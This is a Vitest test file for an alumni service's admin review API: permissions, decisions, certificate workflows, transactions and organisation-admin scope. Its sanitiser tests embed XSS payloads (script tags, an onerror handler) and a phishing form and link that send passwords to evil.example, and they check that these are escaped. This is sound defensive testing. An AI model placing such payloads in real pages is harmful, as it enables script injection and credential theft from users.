import { beforeAll, describe, expect, it } from 'vitest';
import { serverSuite, staffToken } from '../helpers/server.ts';

// The review queues: who may work them, what each decision changes, that a decision is one transaction (status,
// message and audit entry together or not at all), that a second decision is refused, and the 组织管理员's scope.

const suite = serverSuite({ zhang: 'demo-zhangming', wang: 'demo-wangfang' });
const staff = {} as Record<'admin' | 'editor' | 'reviewer' | 'orgadmin', string>;
beforeAll(async () => {
  for (const account of ['admin', 'editor', 'reviewer', 'orgadmin'] as const) staff[account] = await staffToken(suite.server, account);
});

type Method = 'GET' | 'POST';
const call = async (token: string, method: Method, url: string, payload?: object) => {
  const res = await suite.inject(token, method, url, payload);
  return { status: res.statusCode, body: res.json() };
};
const reviewer = (method: Method, url: string, payload?: object) => call(staff.reviewer, method, url, payload);
const sql = <T = Record<string, unknown>>(text: string, params: unknown[] = []) => suite.server.db.query<T>(text, params);
const one = async <T = Record<string, unknown>>(text: string, params: unknown[] = []) => (await sql<T>(text, params))[0];

const userId = async (name: string) =>
  (await one<{ id: number }>('select id from app_user where name = $1 order by id limit 1', [name])).id;
const orgId = async (part: string) => (await one<{ id: number }>('select id from organization where strpos(name, $1) > 0', [part])).id;

/** A new alumnus waiting for their card; answers the id. */
let seq = 0;
async function pendingAlumnus(name = `待审校友${++seq}`) {
  return (
    await one<{ id: number }>(
      `insert into app_user (name, user_type, student_current_status, card_status, graduation_year, faculty, major)
       values ($1, 'alumni', '07', 'pending', 2015, '信息工程学院', '软件工程') returning id`,
      [name],
    )
  ).id;
}
const pendingJoin = async (organizationId: number, user: number) =>
  (
    await one<{ id: number }>(
      `insert into org_join_request (organization_id, user_id, reason) values ($1, $2, '想参加活动') returning id`,
      [organizationId, user],
    )
  ).id;
const submittedCompany = async (user: number, name = '杭州测试科技有限公司') =>
  (
    await one<{ id: number }>(
      `insert into company_application (user_id, name, industry, scale, city, logo, introduction, contact_name, contact_phone, contact_email)
       values ($1, $2, 'it', '100-499', '杭州', '/media/cover-03.svg', '一家做工业软件的公司，服务长三角制造企业。', '张明', '13857102231', 'a@b.cn')
       returning id`,
      [user, name],
    )
  ).id;
const submittedProposal = async (user: number, title: string, description: string) =>
  (
    await one<{ id: number }>(
      `insert into activity_proposal (user_id, title, activity_type, start_time, end_time, place, capacity, signup_deadline, description)
       values ($1, $2, 'sports', now() + interval '30 days', now() + interval '30 days 3 hours', '体育馆', 20,
               now() + interval '20 days', $3) returning id`,
      [user, title, description],
    )
  ).id;
// One open request per person and certificate type (migration 022): a test that needs another while one is open asks
// for another type.
const proofRequest = async (user: number, delivery: 'post' | 'pickup' = 'post', type = '学位证明书') =>
  (
    await one<{ id: number }>(
      `insert into proof_application (user_id, name, student_no, faculty, major, graduation_year, certificate_type, reason, delivery,
                                      address, phone, id_number)
       values ($1, '张明', '2012030115', '信息工程学院', '计算机科学与技术', 2016, $3, '办理落户需要学位证明', $2,
               '浙江省杭州市西湖区文三路 478 号', '13857101234', '330102199003071230') returning id`,
      [user, delivery, type],
    )
  ).id;

const counts = async (user: number) =>
  one<{ messages: number; audit: number }>(
    `select (select count(*)::int from message where user_id = $1) as messages, (select count(*)::int from audit_log) as audit`,
    [user],
  );

describe('who may work the queues', () => {
  it.each([
    ['reviewer', 200],
    ['admin', 200],
    ['editor', 403],
    ['orgadmin', 403],
  ] as const)('%s → %i on every queue and the counts', async (who, status) => {
    for (const url of ['/api/admin/review/counts', '/api/admin/review/cards', '/api/admin/review/certificates']) {
      expect((await call(staff[who], 'GET', url)).status).toBe(status);
    }
    const decision = await call(staff[who], 'POST', '/api/admin/review/cards/999999/decision', { action: 'approve' });
    expect(decision.status).toBe(status === 200 ? 404 : 403);
  });

  it('an alumni token is refused (401), and the 组织管理员’s own list is theirs and 管理员’s', async () => {
    expect((await call(suite.tokens.zhang, 'GET', '/api/admin/review/cards')).status).toBe(401);
    expect((await call(staff.orgadmin, 'GET', '/api/admin/my-organization/join-requests')).status).toBe(200);
    expect((await call(staff.reviewer, 'GET', '/api/admin/my-organization/join-requests')).status).toBe(403);
    expect((await call(staff.orgadmin, 'GET', '/api/admin/my-organization/join-requests?state=later')).body.data.field).toBe('state');
    for (const who of ['editor', 'orgadmin'] as const) {
      expect((await call(staff[who], 'POST', '/api/admin/review/cards/batch', { ids: [1], action: 'approve' })).status).toBe(403);
    }
    expect(
      (await call(staff.editor, 'POST', '/api/admin/my-organization/join-requests/batch', { ids: [1], action: 'approve' })).status,
    ).toBe(403);
    // 管理员 looks after no organisation: there is none to list
    expect((await call(staff.admin, 'GET', '/api/admin/my-organization/join-requests')).status).toBe(404);
  });
});

describe('lists', () => {
  it('counts what waits and lists it oldest first, with filters and paging', async () => {
    const before = (await reviewer('GET', '/api/admin/review/counts')).body.data;
    expect(before.cards).toBeGreaterThanOrEqual(1);
    expect(before.proposals).toBeGreaterThanOrEqual(1);
    expect(before.certificates).toBeGreaterThanOrEqual(1);
    const a = await pendingAlumnus('排序校友甲');
    await sql(`update app_user set created_at = now() - interval '400 days' where id = $1`, [a]);
    const list = (await reviewer('GET', '/api/admin/review/cards?pageSize=50')).body.data;
    expect(list.list[0].id).toBe(a);
    const times = list.list.map((i: { createdAt: string }) => Date.parse(i.createdAt));
    expect(times).toEqual([...times].sort((x, y) => x - y));
    expect(list.list.some((i: { applicantName: string }) => i.applicantName === '王芳')).toBe(true);
    expect((await reviewer('GET', '/api/admin/review/counts')).body.data.cards).toBe(before.cards + 1);
    const found = (await reviewer('GET', `/api/admin/review/cards?keyword=${encodeURIComponent('王芳')}`)).body.data;
    expect(found.list.map((i: { applicantName: string }) => i.applicantName)).toEqual(['王芳']);
    const paged = (await reviewer('GET', '/api/admin/review/cards?pageSize=1&pageNum=2')).body.data;
    expect(paged).toMatchObject({ pageNum: 2, pageSize: 1, total: list.total });
    const none = (await reviewer('GET', '/api/admin/review/cards?from=2099-01-01')).body.data;
    expect(none.total).toBe(0);
    // a certificate request's ID number and phone come masked
    const proofs = (await reviewer('GET', '/api/admin/review/certificates')).body.data.list;
    expect(JSON.stringify(proofs)).not.toContain('330102199003071230');
    expect(JSON.stringify(proofs)).not.toContain('13857101234');
  });

  it.each([
    ['/api/admin/review/visits', 'queue'],
    ['/api/admin/review/cards?state=open', 'state'],
    ['/api/admin/review/cards?from=yesterday', 'from'],
    ['/api/admin/review/cards?pageSize=500', 'pageSize'],
    ['/api/admin/review/cards?color=red', 'color'],
  ])('%s → 400 naming %s', async (url, field) => {
    const res = await reviewer('GET', url);
    expect(res.status).toBe(400);
    expect(res.body.data.field).toBe(field);
  });

  // A Chinese keyword narrows the waiting cards by migration 035's grams index first; what is found is still every
  // application whose name or 申请事项 (college, major, year) holds the keyword, as a plain text search finds it.
  it.each([
    ['a surname', '搜索甲'],
    ['a whole name', '搜索甲乙'],
    ['the college', '信息工程'],
    ['the major', '软件'],
    ['the year as written', '届'],
    ['digits of the year', '2015'],
    ['a Latin word', 'abc'],
    ['words on both sides of a space', '学院 软件'],
    ['nothing anyone has', '无此关键词'],
  ])('the waiting cards searched for %s are those that hold it', async (_what, keyword) => {
    for (const name of ['搜索甲乙', '搜索甲丙', 'abc 搜索', '另一人']) await pendingAlumnus(name);
    const found = (await reviewer('GET', `/api/admin/review/cards?pageSize=50&keyword=${encodeURIComponent(keyword)}`)).body.data;
    const expected = await sql<{ id: number }>(
      `select id from app_user where user_type = 'alumni' and not disabled and card_status = 'pending'
         and (strpos(name, $1) > 0 or strpos(concat_ws(' ', nullif(faculty, ''), nullif(major, ''), graduation_year::text || '届'), $1) > 0)
       order by created_at, id`,
      [keyword],
    );
    expect(found.list.map((i: { id: number }) => i.id)).toEqual(expected.map((r) => r.id));
    expect(found.total).toBe(expected.length);
  });
});

describe('decisions', () => {
  it('verifying 王芳’s card gives her a number and a 审核结果 message even with review messages switched off; her next call passes', async () => {
    const wang = await userId('王芳');
    await sql('update app_user set notify_review = false where id = $1', [wang]);
    // Signed in while pending: a protected service is refused…
    expect((await call(suite.tokens.wang, 'GET', '/api/alumproof/my')).status).toBe(403);
    const before = await counts(wang);
    const res = await reviewer('POST', `/api/admin/review/cards/${wang}/decision`, { action: 'approve' });
    expect(res.status).toBe(200);
    expect(res.body.data.status).toBe('verified');
    const cardNo = res.body.data.fields.find((f: { key: string }) => f.key === 'cardNo').value;
    expect(cardNo).toMatch(/^BJCC-2014-\d{6}$/);
    const after = await counts(wang);
    expect(after).toEqual({ messages: before.messages + 1, audit: before.audit + 1 });
    const [message] = await sql<{ kind: string; title: string; content: string }>(
      'select kind, title, content from message where user_id = $1 order by id desc limit 1',
      [wang],
    );
    expect(message).toMatchObject({ kind: 'review', title: '校友卡审核通过' });
    expect(message.content).toContain(cardNo);
    const audit = await one<{ summary: string; account: string; entity: string }>(
      'select summary, account, entity from audit_log order by id desc limit 1',
    );
    expect(audit).toMatchObject({ account: 'reviewer', entity: 'review-cards' });
    expect(audit.summary).toContain('王芳');
    // …and now passes with the same token, without signing in again.
    expect((await call(suite.tokens.wang, 'GET', '/api/alumproof/my')).status).toBe(200);
    expect((await call(suite.tokens.wang, 'GET', '/api/alumuser/info')).body.data.userStatus).toBe('verified');
    // A second decision on the same card is refused, and changes nothing.
    const again = await reviewer('POST', `/api/admin/review/cards/${wang}/decision`, { action: 'reject', reason: '重复处理' });
    expect(again.status).toBe(409);
    expect(again.body.msg).toBe('该申请已处理，请刷新');
    expect(await counts(wang)).toEqual(after);
  });

  it('re-issuing 张明’s verified card voids every code of the card before, with a reason he reads; only a verified card', async () => {
    const zhang = await userId('张明');
    const codeOf = async () => {
      const qr = (await call(suite.tokens.zhang, 'GET', '/api/alumuser/info')).body.data.cardQr as string;
      return new URL(qr).searchParams.get('c')!;
    };
    const verdict = async (c: string) => (await call(suite.tokens.zhang, 'GET', `/api/card/verify?c=${encodeURIComponent(c)}`)).body.data;
    const old = await codeOf();
    expect((await verdict(old)).status).toBe('valid');
    await sql('update app_user set notify_review = false where id = $1', [zhang]);
    const before = await counts(zhang);

    // Without a reason, and by anyone but a reviewer or an admin, nothing happens.
    const bare = await reviewer('POST', `/api/admin/review/cards/${zhang}/decision`, { action: 'reissue' });
    expect(bare.status).toBe(400);
    expect(bare.body).toMatchObject({ msg: '请填写补发原因', data: { field: 'reason' } });
    const byEditor = await call(staff.editor, 'POST', `/api/admin/review/cards/${zhang}/decision`, { action: 'reissue', reason: '挂失' });
    expect(byEditor.status).toBe(403);
    expect(await counts(zhang)).toEqual(before);

    const res = await reviewer('POST', `/api/admin/review/cards/${zhang}/decision`, {
      action: 'reissue',
      reason: '校友来电挂失，原卡丢失',
    });
    expect(res.status).toBe(200);
    expect(res.body.data.status).toBe('verified');
    // The old code now says 已失效; the card he is shown now is valid, under the same number.
    expect(await verdict(old)).toEqual({ status: 'revoked', cardNo: 'BJCC-2016-000315' });
    const fresh = await codeOf();
    expect(fresh).not.toBe(old);
    expect(fresh).toContain('.BJCC-2016-000315.');
    expect((await verdict(fresh)).status).toBe('valid');
    // Told even with review messages off (a card decision always is), and audited with the reason.
    expect(await counts(zhang)).toEqual({ messages: before.messages + 1, audit: before.audit + 1 });
    const message = await one<{ title: string; content: string }>(
      'select title, content from message where user_id = $1 order by id desc limit 1',
      [zhang],
    );
    expect(message.title).toBe('校友卡已补发');
    expect(message.content).toContain('校友来电挂失，原卡丢失');
    const audit = await one<{ summary: string; account: string }>('select summary, account from audit_log order by id desc limit 1');
    expect(audit.account).toBe('reviewer');
    expect(audit.summary).toContain('补发校友卡');
    expect(audit.summary).toContain('校友来电挂失，原卡丢失');
    await sql('update app_user set notify_review = true where id = $1', [zhang]);

    // A card still under review has nothing to re-issue.
    const pending = await pendingAlumnus();
    const refused = await reviewer('POST', `/api/admin/review/cards/${pending}/decision`, { action: 'reissue', reason: '挂失' });
    expect(refused.status).toBe(409);
  });

  it('rejecting a card needs a reason, which the alumnus reads', async () => {
    const id = await pendingAlumnus();
    const bare = await reviewer('POST', `/api/admin/review/cards/${id}/decision`, { action: 'reject' });
    expect(bare.status).toBe(400);
    expect(bare.body.data.field).toBe('reason');
    const res = await reviewer('POST', `/api/admin/review/cards/${id}/decision`, { action: 'reject', reason: '毕业证书照片不清晰' });
    expect(res.body.data).toMatchObject({ status: 'rejected', note: '毕业证书照片不清晰' });
    const row = await one('select card_reject_reason as reason, card_no as "cardNo" from app_user where id = $1', [id]);
    expect(row).toEqual({ reason: '毕业证书照片不清晰', cardNo: '' });
    const message = await one<{ content: string }>('select content from message where user_id = $1', [id]);
    expect(message.content).toContain('毕业证书照片不清晰');
  });

  it('rejecting 张明’s join request tells him why, in his messages and his organisations', async () => {
    const zhang = await userId('张明');
    const request = await one<{ id: number }>(`select id from org_join_request where user_id = $1 and status = 'pending'`, [zhang]);
    const res = await reviewer('POST', `/api/admin/review/joins/${request.id}/decision`, {
      action: 'reject',
      reason: '请先完善工作单位信息',
    });
    expect(res.status).toBe(200);
    const mine = (await call(suite.tokens.zhang, 'GET', '/api/alumorganization/my')).body.data;
    expect(mine.find((r: { id: number }) => r.id === request.id)).toMatchObject({ status: 'rejected', reviewNote: '请先完善工作单位信息' });
    const message = await one<{ title: string; content: string }>(
      'select title, content from message where user_id = $1 order by id desc limit 1',
      [zhang],
    );
    expect(message.title).toContain('入会申请未通过');
    expect(message.content).toContain('请先完善工作单位信息');
  });

  it('approving a join request makes a member and counts them', async () => {
    const org = await orgId('北京校友会');
    const wang = await userId('王芳');
    const id = await pendingJoin(org, wang);
    // 会员人数 as the public organisation page shows it.
    const members = async () => (await call(suite.tokens.zhang, 'GET', `/api/alumorganization/${org}`)).body.data.memberCount as number;
    const before = await members();
    await reviewer('POST', `/api/admin/review/joins/${id}/decision`, { action: 'approve', reason: '欢迎！' });
    const membership = (await call(suite.tokens.wang, 'GET', `/api/alumorganization/${org}/membership`)).body.data;
    expect(membership).toMatchObject({ status: 'member', requestId: id });
    expect(await members()).toBe(before + 1);
  });

  it('a certificate request moves 受理 → 办理中 → 已寄出 with a tracking number, which 张明 sees', async () => {
    const zhang = await userId('张明');
    const id = await proofRequest(zhang);
    const url = `/api/admin/review/certificates/${id}/decision`;
    expect((await reviewer('POST', url, { action: 'approve' })).body.data?.field).toBe('action');
    expect((await reviewer('POST', url, { action: 'ready' })).body.data.field).toBe('action');
    expect((await reviewer('POST', url, { action: 'accept' })).body.data.status).toBe('accepted');
    expect((await reviewer('POST', url, { action: 'process' })).body.data.status).toBe('processing');
    const noNumber = await reviewer('POST', url, { action: 'post' });
    expect(noNumber.status).toBe(400);
    expect(noNumber.body.data.field).toBe('trackingNo');
    const badNumber = await reviewer('POST', url, { action: 'post', trackingNo: 'SF 12<script>' });
    expect(badNumber.status).toBe(400);
    expect(badNumber.body.data.field).toBe('trackingNo');
    const posted = await reviewer('POST', url, { action: 'post', trackingNo: 'SF1234567890' });
    expect(posted.body.data).toMatchObject({ status: 'posted', trackingNo: 'SF1234567890' });
    const mine = (await call(suite.tokens.zhang, 'GET', '/api/alumproof/my')).body.data;
    expect(mine.find((a: { id: number }) => a.id === id)).toMatchObject({ status: 'posted', trackingNo: 'SF1234567890' });
    const titles = (await sql<{ title: string }>('select title from message where user_id = $1 order by id desc limit 3', [zhang])).map(
      (m) => m.title,
    );
    expect(titles).toEqual(['证明已寄出：学位证明书', '证明补办办理中：学位证明书', '证明补办申请已受理：学位证明书']);
    expect((await reviewer('POST', url, { action: 'reject', reason: '晚了' })).status).toBe(409);
  });

  it('a pickup request ends 可领取; respecting the review switch, no message is written when it is off', async () => {
    const zhang = await userId('张明');
    const id = await proofRequest(zhang, 'pickup');
    await sql('update app_user set notify_review = false where id = $1', [zhang]);
    const before = await counts(zhang);
    const res = await reviewer('POST', `/api/admin/review/certificates/${id}/decision`, { action: 'ready' });
    expect(res.status).toBe(409); // not yet accepted
    await reviewer('POST', `/api/admin/review/certificates/${id}/decision`, { action: 'accept' });
    expect((await reviewer('POST', `/api/admin/review/certificates/${id}/decision`, { action: 'ready' })).body.data.status).toBe('ready');
    const after = await counts(zhang);
    expect(after.messages).toBe(before.messages);
    expect(after.audit).toBe(before.audit + 2);
    await sql('update app_user set notify_review = true where id = $1', [zhang]);
  });

  it('an approved company application becomes a draft company; an accepted proposal a draft activity', async () => {
    const zhang = await userId('张明');
    const company = await submittedCompany(zhang);
    const res = await reviewer('POST', `/api/admin/review/companies/${company}/decision`, { action: 'approve' });
    expect(res.body.data.status).toBe('approved');
    // dictionary values are shown by their labels
    const industry = res.body.data.fields.find((f: { key: string }) => f.key === 'industry').value;
    expect(industry).not.toBe('it');
    const draft = await one('select name, publish_state as state, founder_name as founder from company where id = $1', [
      res.body.data.linkId,
    ]);
    expect(draft).toEqual({ name: '杭州测试科技有限公司', state: 'draft', founder: '张明' });
    const list = (await call(suite.tokens.zhang, 'GET', '/api/alumcompany/list?pageSize=50')).body;
    expect(JSON.stringify(list)).not.toContain('杭州测试科技有限公司');

    const proposal = await one<{ id: number; title: string }>(`select id, title from activity_proposal where status = 'submitted' limit 1`);
    const accepted = await reviewer('POST', `/api/admin/review/proposals/${proposal.id}/decision`, { action: 'approve' });
    const activity = await one('select title, publish_state as state from activity where id = $1', [accepted.body.data.linkId]);
    expect(activity).toEqual({ title: proposal.title, state: 'draft' });
    expect((await reviewer('POST', `/api/admin/review/proposals/${proposal.id}/decision`, { action: 'reject', reason: 'x' })).status).toBe(
      409,
    );
  });

  it('an approved application’s 企业简介 reaches the public company API only as escaped text, its summary without tags', async () => {
    const lines = [
      '我们是一家做工业软件的公司，服务长三角制造企业。',
      '<script>window.__xss=1</script><img src=x onerror="window.__xss=2">',
      '<form action="https://evil.example/steal"><input name="password"><button>提交</button></form>',
      '<a href="https://evil.example/login">【官方通知】校友账号即将停用，请点此重新验证</a>',
    ];
    const company = await submittedCompany(await userId('张明'), '杭州纯文本科技有限公司');
    await sql('update company_application set introduction = $2 where id = $1', [company, lines.join('\n')]);
    const approved = await reviewer('POST', `/api/admin/review/companies/${company}/decision`, { action: 'approve' });
    const published = await call(staff.editor, 'POST', `/api/admin/content/companies/${approved.body.data.linkId}/publish`, {});
    expect(published.status).toBe(200);

    const shown = (await call(suite.tokens.zhang, 'GET', `/api/alumcompany/${approved.body.data.linkId}`)).body.data;
    // As the sanitiser writes text: quotes need no escaping outside attributes.
    const escape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    expect(shown.introduction).toBe(lines.map((line) => `<p>${escape(line)}</p>`).join(''));
    expect(shown.introduction).not.toMatch(/<(?!\/?p>)/);
    expect(shown.summary).toBe(
      '我们是一家做工业软件的公司，服务长三角制造企业。 window.__xss=1 提交 【官方通知】校友账号即将停用，请点此重新验证',
    );
  });

  it('an accepted proposal’s description becomes escaped paragraphs and a summary without tags', async () => {
    const proposal = await submittedProposal(await userId('张明'), '纯文本测试活动', '第一段<script>alert(1)</script>\n\n第二段');
    const accepted = await reviewer('POST', `/api/admin/review/proposals/${proposal}/decision`, { action: 'approve' });
    const activity = await one('select content, summary from activity where id = $1', [accepted.body.data.linkId]);
    expect(activity).toEqual({
      content: '<p>第一段&lt;script&gt;alert(1)&lt;/script&gt;</p><p>第二段</p>',
      summary: '第一段 alert(1) 第二段',
    });
  });

  it.each([
    [{}, 'action'],
    [{ action: 'explode' }, 'action'],
    [{ action: 'reject', reason: 'x'.repeat(201) }, 'reason'],
    [{ action: 'approve', extra: 1 }, 'extra'],
  ])('bad body %o → 400 naming %s', async (body, field) => {
    const id = await pendingAlumnus();
    const res = await reviewer('POST', `/api/admin/review/cards/${id}/decision`, body);
    expect(res.status).toBe(400);
    expect(res.body.data.field).toBe(field);
  });

  it.each(['cards', 'joins', 'companies', 'certificates', 'proposals'])('a missing %s item → 404', async (queue) => {
    const res = await reviewer('POST', `/api/admin/review/${queue}/2000000/decision`, { action: 'reject', reason: '无' });
    expect(res.status).toBe(404);
  });
});

describe('each decision is one transaction', () => {
  /** Makes every insert into `table` fail until the returned function is called. */
  async function breakInserts(table: 'message' | 'audit_log') {
    await sql(
      `create or replace function review_test_fail() returns trigger language plpgsql as $$ begin raise exception 'forced failure'; end $$`,
    );
    await sql(`create trigger review_test_fail before insert on ${table} for each row execute function review_test_fail()`);
    return () => sql(`drop trigger review_test_fail on ${table}`);
  }

  it.each(['message', 'audit_log'] as const)(
    'a failing %s insert leaves status, messages and audit as they were, in every queue',
    async (table) => {
      const zhang = await userId('张明');
      const card = await pendingAlumnus();
      const join = await pendingJoin(await orgId('深圳校友会'), await pendingAlumnus());
      const company = await submittedCompany(zhang, `原子性测试公司${table}`);
      const proof = await proofRequest(zhang, 'post', `学籍证明${table}`);
      const proposal = await submittedProposal(zhang, `原子性测试活动${table}`, '一场测试用的活动。');
      const statusOf = () =>
        one(
          `select (select card_status from app_user where id = $1) as card, (select card_no from app_user where id = $1) as "cardNo",
                (select status from org_join_request where id = $2) as join,
                (select status from company_application where id = $3) as company,
                (select count(*)::int from company) as companies,
                (select status || tracking_no from proof_application where id = $4) as proof,
                (select status from activity_proposal where id = $5) as proposal,
                (select count(*)::int from activity) as activities,
                (select count(*)::int from message) as messages, (select count(*)::int from audit_log) as audit`,
          [card, join, company, proof, proposal],
        );
      const before = await statusOf();
      const repair = await breakInserts(table);
      try {
        for (const [url, body] of [
          [`cards/${card}`, { action: 'approve' }],
          [`joins/${join}`, { action: 'approve' }],
          [`companies/${company}`, { action: 'approve' }],
          [`certificates/${proof}`, { action: 'accept' }],
          [`proposals/${proposal}`, { action: 'approve' }],
        ] as const) {
          const res = await reviewer('POST', `/api/admin/review/${url}/decision`, body);
          expect(res.status, url).toBe(500);
        }
        const batch = await reviewer('POST', '/api/admin/review/cards/batch', { ids: [card], action: 'approve' });
        expect(batch.status).toBe(500);
      } finally {
        await repair();
      }
      expect(await statusOf()).toEqual(before);
      // Repaired, the same decisions go through.
      expect((await reviewer('POST', `/api/admin/review/cards/${card}/decision`, { action: 'approve' })).status).toBe(200);
    },
  );
});

describe('batches', () => {
  it('verify several cards at once: each decided on its own, the answer says which', async () => {
    const [a, b] = [await pendingAlumnus(), await pendingAlumnus()];
    await reviewer('POST', `/api/admin/review/cards/${b}/decision`, { action: 'approve' });
    const res = await reviewer('POST', '/api/admin/review/cards/batch', { ids: [a, b, 2000000], action: 'approve' });
    expect(res.status).toBe(200);
    expect(res.body.data).toEqual({ done: [a], skipped: [b], missing: [2000000] });
    expect(res.body.msg).toContain('已处理 1 条');
    const rows = await sql<{ status: string }>('select card_status as status from app_user where id = any($1::int[])', [[a, b]]);
    expect(rows.map((r) => r.status)).toEqual(['verified', 'verified']);
  });

  it.each([
    ['/api/admin/review/cards/batch', { ids: [1], action: 'reject' }, 'reason'],
    ['/api/admin/review/companies/batch', { ids: [1], action: 'approve' }, 'action'],
    ['/api/admin/review/certificates/batch', { ids: [1], action: 'reject', reason: 'x' }, 'action'],
    ['/api/admin/review/cards/batch', { ids: [], action: 'approve' }, 'ids'],
    ['/api/admin/review/cards/batch', { ids: [1, 1], action: 'approve' }, 'ids'],
    ['/api/admin/review/cards/batch', { ids: [1], action: 'post' }, 'action'],
  ])('%s %o → 400 naming %s', async (url, body, field) => {
    const res = await reviewer('POST', url, body);
    expect(res.status).toBe(400);
    expect(res.body.data.field).toBe(field);
  });

  it('a batch of only missing items → 404', async () => {
    expect((await reviewer('POST', '/api/admin/review/joins/batch', { ids: [2000000], action: 'approve' })).status).toBe(404);
  });
});

describe('组织管理员: their own organisation’s join requests only', () => {
  it('lists and decides its own, and finds another organisation’s as missing (404)', async () => {
    const { organizationId } = (await call(staff.orgadmin, 'GET', '/api/admin/me')).body.data;
    const other = (await one<{ id: number }>('select id from organization where id <> $1 order by id limit 1', [organizationId])).id;
    const [u1, u2, u3] = [await pendingAlumnus(), await pendingAlumnus(), await pendingAlumnus()];
    const mine = await pendingJoin(organizationId, u1);
    const mine2 = await pendingJoin(organizationId, u3);
    const theirs = await pendingJoin(other, u2);
    const list = (await call(staff.orgadmin, 'GET', '/api/admin/my-organization/join-requests?pageSize=50')).body.data.list;
    expect(list.every((i: { organizationId: number }) => i.organizationId === organizationId)).toBe(true);
    expect(list.map((i: { id: number }) => i.id)).toContain(mine);
    expect(list.map((i: { id: number }) => i.id)).not.toContain(theirs);
    const refused = await call(staff.orgadmin, 'POST', `/api/admin/my-organization/join-requests/${theirs}/decision`, {
      action: 'approve',
    });
    expect(refused.status).toBe(404);
    expect((await one('select status from org_join_request where id = $1', [theirs])).status).toBe('pending');
    const batch = await call(staff.orgadmin, 'POST', '/api/admin/my-organization/join-requests/batch', {
      ids: [mine2, theirs],
      action: 'reject',
      reason: '本会暂停接收新会员',
    });
    expect(batch.body.data).toEqual({ done: [mine2], skipped: [], missing: [theirs] });
    const bad = await call(staff.orgadmin, 'POST', `/api/admin/my-organization/join-requests/${mine}/decision`, { action: 'reject' });
    expect(bad.body.data.field).toBe('reason');
    const ok = await call(staff.orgadmin, 'POST', `/api/admin/my-organization/join-requests/${mine}/decision`, {
      action: 'reject',
      reason: '请先注册为认证校友',
    });
    expect(ok.body.data).toMatchObject({ status: 'rejected', note: '请先注册为认证校友' });
    expect((await call(staff.orgadmin, 'GET', '/api/admin/my-organization/join-requests/999/decision')).status).toBe(404);
    // the 组织管理员 cannot reach the review queues' decision route for any join request
    expect((await call(staff.orgadmin, 'POST', `/api/admin/review/joins/${theirs}/decision`, { action: 'approve' })).status).toBe(403);
  });
});
